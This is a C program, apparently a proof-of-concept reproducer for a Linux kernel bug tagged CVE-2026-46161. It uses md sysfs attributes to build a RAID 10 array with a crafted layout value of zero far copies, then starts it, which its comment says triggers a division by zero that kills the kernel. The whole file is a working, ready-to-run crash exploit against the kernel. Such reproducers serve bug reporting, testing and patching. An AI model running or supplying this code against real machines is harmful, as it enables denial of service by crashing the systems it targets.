// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-46161: a RAID 10 of zero far copies divides by them. Makes one of two RAM disks, and starts
// it; where the division is, this program dies in the kernel.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int put(const char *file, const char *text)
{
	char path[200];
	int f, error;

	snprintf(path, sizeof(path), file[0] == '/' ? "%s" : "/sys/block/md_bite/md/%s", file);
	f = open(path, O_WRONLY);
	error = f < 0 || write(f, text, strlen(text)) < 0 ? errno : 0;
	close(f);
	return error;
}

int main(void)
{
	const char *steps[][2] = {
		{ "/sys/module/md_mod/parameters/new_array", "md_bite" },
		{ "metadata_version", "none" },
		{ "level", "raid10" },
		{ "raid_disks", "2" },
		{ "layout", "131074" },	/* 1 << 17, far copies 0, near copies 2 */
		{ "chunk_size", "65536" },
		{ "component_size", "2048" },
		{ "new_dev", "1:0" },
		{ "dev-ram0/slot", "0" },
		{ "new_dev", "1:1" },
		{ "dev-ram1/slot", "1" },
	};
	unsigned int i;
	int error;

	for (i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
		error = put(steps[i][0], steps[i][1]);
		if (error) {
			printf("%s: %s\n", steps[i][0], strerror(error));
			return 2;
		}
	}
	error = put("array_state", "active");
	printf("zero far copies: %s\n", error ? strerror(error) : "started");
	return !error;
}
